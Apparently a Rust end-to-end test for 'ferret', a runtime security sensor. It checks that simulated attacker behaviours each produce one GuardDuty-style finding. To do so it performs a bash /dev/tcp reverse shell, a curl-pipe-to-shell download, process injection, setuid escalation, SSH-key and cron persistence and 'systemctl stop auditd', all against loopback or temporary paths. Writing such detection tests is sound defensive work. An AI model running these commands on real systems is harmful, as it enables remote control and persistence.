//! ferret's built-in rules on real attacker behaviour: each behaviour gives exactly one finding of
//! its GuardDuty type, attributed to the process that did it.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use ferret_e2e::Sensor;
use serde_json::Value;

const WAIT: Duration = Duration::from_secs(20);
const PYTHON: &str = "/usr/bin/python3";

fn helper() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("helpers/attacks.py")
}

fn attack(args: &[&str]) -> Value {
    let out = Command::new(PYTHON).arg(helper()).args(args).output().expect("python");
    assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{args:?}: {e}: {}", String::from_utf8_lossy(&out.stdout)))
}

fn pid(v: &Value) -> u32 {
    v["pid"].as_u64().expect("pid") as u32
}

/// The distinct findings (by id) of `ty` for process `pid`, once one is there (and a moment
/// later, so repeats would show).
fn findings(sensor: &Sensor, ty: &str, pid: u32) -> Vec<Value> {
    findings_where(sensor, ty, pid, |v| v["process"]["pid"] == pid)
}

fn findings_where(sensor: &Sensor, ty: &str, pid: u32, pred: impl Fn(&Value) -> bool) -> Vec<Value> {
    let deadline = Instant::now() + WAIT;
    let of = |recs: Vec<Value>| -> Vec<Value> {
        let mut seen: Vec<Value> = Vec::new();
        for v in recs.into_iter().filter(|v| v["kind"] == "finding" && v["type"] == ty && pred(v)) {
            if !seen.iter().any(|s| s["id"] == v["id"]) {
                seen.push(v);
            }
        }
        seen
    };
    loop {
        if !of(sensor.records()).is_empty() {
            thread::sleep(Duration::from_millis(700));
            return of(sensor.records());
        }
        if Instant::now() >= deadline {
            let seen: Vec<String> = sensor
                .records()
                .iter()
                .filter(|v| v["kind"] == "finding")
                .map(|v| format!("{} pid {} {}", v["type"], v["process"]["pid"], v["process"]["comm"]))
                .collect();
            panic!("no finding {ty} for pid {pid}; findings: {seen:#?}");
        }
        thread::sleep(Duration::from_millis(50));
    }
}

fn one(sensor: &Sensor, ty: &str, pid: u32) -> Value {
    let f = findings(sensor, ty, pid);
    assert_eq!(f.len(), 1, "{ty}: {f:#?}");
    f.into_iter().next().unwrap_or_default()
}

/// A listener that takes one connection, reads what the shell sends and closes.
fn listener() -> (u16, thread::JoinHandle<String>) {
    let l = TcpListener::bind("127.0.0.1:0").expect("listen");
    let port = l.local_addr().expect("addr").port();
    let h = thread::spawn(move || {
        let (mut s, _) = l.accept().expect("accept");
        s.set_read_timeout(Some(Duration::from_secs(5))).ok();
        let _ = s.write_all(b"echo pwned; exit\n");
        let mut got = String::new();
        let _ = s.read_to_string(&mut got);
        got
    });
    (port, h)
}

#[test]
fn attacker_behaviour_gives_one_finding_of_its_type() {
    let sensor = Sensor::start(&[]);
    let dir = tempfile::tempdir().expect("tempdir");

    // Reverse shells: bash /dev/tcp and Python, each to a listener on loopback.
    let (port, h) = listener();
    let bash = Command::new("bash")
        .args(["-c", &format!("sh -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stderr(Stdio::null())
        .spawn()
        .expect("bash");
    let bash_pid = bash.id();
    let _ = bash.wait_with_output();
    assert!(h.join().unwrap_or_default().contains("pwned"));
    // bash forks for the redirected command: the shell that took the socket is its child.
    let f = findings_where(&sensor, "Execution:Runtime/ReverseShell", bash_pid, |v| {
        v["process"]["pid"] == bash_pid || v["process"]["ppid"] == bash_pid
    });
    assert_eq!(f.len(), 1, "{f:#?}");
    let f = &f[0];
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["evidence"][0]["net"]["remote"]["port"], port);
    assert!(f["mitre"].as_array().is_some_and(|m| m.iter().any(|t| t == "T1059.004")));

    let (port, h) = listener();
    let py = attack(&["python-reverse-shell", &port.to_string()]);
    let _ = h.join();
    one(&sensor, "Execution:Runtime/ReverseShell", pid(&py));

    // Injection: PTRACE_POKETEXT, /proc/PID/mem opened for writing, process_vm_writev.
    let p = attack(&["ptrace-poketext"]);
    assert_eq!(p["poke"], 0);
    let f = one(&sensor, "DefenseEvasion:Runtime/ProcessInjection.Ptrace", pid(&p));
    assert_eq!(f["evidence"][0]["syscall"]["args"]["target_pid"], p["child"]);
    assert_eq!(f["context"]["target_pid"], p["child"]);
    assert_eq!(f["context"]["request_name"], "PTRACE_POKETEXT");
    one(&sensor, "DefenseEvasion:Runtime/PtraceAntiDebugging", p["child"].as_u64().unwrap_or(0) as u32);
    let p = attack(&["proc-mem"]);
    one(&sensor, "DefenseEvasion:Runtime/ProcessInjection.Proc", pid(&p));
    let p = attack(&["vm-writev"]);
    assert_eq!(p["written"], 8);
    one(&sensor, "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite", pid(&p));
    let p = attack(&["userfaultfd"]);
    assert!(p["fd"].as_i64().unwrap_or(-1) >= 0, "{p}");
    one(&sensor, "PrivilegeEscalation:Runtime/UserfaultfdUsage", pid(&p));

    // Fileless: a memfd holding /usr/bin/true, executed.
    let p = attack(&["memfd-exec"]);
    let f = one(&sensor, "DefenseEvasion:Runtime/FilelessExecution", pid(&p));
    assert_eq!(f["process"]["exe_memfd"], true);

    // Persistence: an authorized_keys line and a cron file.
    let home = dir.path().join("home");
    let p = attack(&["authorized-keys", home.to_str().unwrap_or("/nonexistent")]);
    let f = one(&sensor, "Persistence:Runtime/SensitiveFileModified", pid(&p));
    assert!(f["evidence"][0]["file"]["path"].as_str().unwrap_or("").ends_with("/.ssh/authorized_keys"));
    let p = attack(&["cron"]);
    one(&sensor, "Persistence:Runtime/SensitiveFileModified", pid(&p));

    // A tool renamed to what it is, a download piped to a shell, a setuid-root binary.
    let nmap = dir.path().join("nmap");
    std::fs::copy("/usr/bin/true", &nmap).expect("copy");
    let child = Command::new(&nmap).spawn().expect("nmap");
    let nmap_pid = child.id();
    let _ = child.wait_with_output();
    one(&sensor, "Execution:Runtime/SuspiciousTool", nmap_pid);

    let sh = Command::new("sh")
        .args(["-c", "curl -fsS --max-time 1 http://127.0.0.1:9/install.sh | sh"])
        .stderr(Stdio::null())
        .spawn()
        .expect("sh");
    let sh_pid = sh.id();
    let _ = sh.wait_with_output();
    one(&sensor, "Execution:Runtime/SuspiciousCommand", sh_pid);

    let suid = dir.path().join("suid-id");
    std::fs::copy("/usr/bin/id", &suid).expect("copy id");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod dir");
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).expect("chmod setuid");
    let child = Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
        .arg(&suid)
        .stdout(Stdio::piped())
        .spawn()
        .expect("setpriv");
    let suid_pid = child.id();
    let out = child.wait_with_output().expect("wait");
    assert!(String::from_utf8_lossy(&out.stdout).contains("euid=0"), "{}", String::from_utf8_lossy(&out.stdout));
    let f = one(&sensor, "PrivilegeEscalation:Runtime/ElevationToRoot", suid_pid);
    assert_eq!(f["process"]["uid"], 65534);
    assert_eq!(f["process"]["euid"], 0);

    // Tampering and escapes, done harmlessly: a log of our own truncated, an empty PAM
    // file for no service, files named runc and release_agent in a temporary directory (the rules go by name).
    let p = attack(&["truncate-log"]);
    one(&sensor, "DefenseEvasion:Runtime/SensitiveFileModified", pid(&p));
    let p = attack(&["pam-drop-in"]);
    one(&sensor, "PrivilegeEscalation:Runtime/SensitiveFileModified", pid(&p));
    let scratch = dir.path().to_str().unwrap_or("/nonexistent");
    let p = attack(&["runc-write", scratch]);
    one(&sensor, "PrivilegeEscalation:Runtime/RuncContainerEscape", pid(&p));
    let p = attack(&["release-agent", scratch]);
    one(&sensor, "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified", pid(&p));

    // Commands: a miner by name, a web server spawning a shell, logging disabled (auditd is not
    // installed: systemctl fails, the attempt is the finding), an account tool.
    let run = |path: &std::path::Path, args: &[&str]| -> u32 {
        let c = Command::new(path).args(args).stdout(Stdio::null()).stderr(Stdio::null()).spawn().expect("spawn");
        let id = c.id();
        let _ = c.wait_with_output();
        id
    };
    let xmrig = dir.path().join("xmrig");
    std::fs::copy("/usr/bin/true", &xmrig).expect("copy");
    one(&sensor, "Impact:Runtime/CryptoMinerExecuted", run(&xmrig, &["-o", "pool.example:3333"]));
    let nginx = dir.path().join("nginx");
    std::fs::copy(PYTHON, &nginx).expect("copy python");
    let out = Command::new(&nginx)
        .args(["-c", "import subprocess; p = subprocess.Popen(['sh', '-c', 'exit 0']); print(p.pid); p.wait()"])
        .output()
        .expect("nginx");
    let sh: u32 = String::from_utf8_lossy(&out.stdout).trim().parse().expect("pid");
    one(&sensor, "Execution:Runtime/SuspiciousShellCreated", sh);
    let out = Command::new(&nginx)
        .args([
            "-c",
            "import subprocess; p = subprocess.Popen(['id'], stdout=subprocess.DEVNULL); print(p.pid); p.wait()",
        ])
        .output()
        .expect("nginx");
    let id: u32 = String::from_utf8_lossy(&out.stdout).trim().parse().expect("pid");
    one(&sensor, "Discovery:Runtime/SuspiciousCommand", id);
    one(
        &sensor,
        "DefenseEvasion:Runtime/SuspiciousCommand",
        run(std::path::Path::new("systemctl"), &["stop", "auditd"]),
    );
    one(&sensor, "Persistence:Runtime/SuspiciousCommand", run(std::path::Path::new("useradd"), &["--help"]));

    let (status, stderr, _) = sensor.stop();
    assert!(status.success(), "{stderr:?}");
}
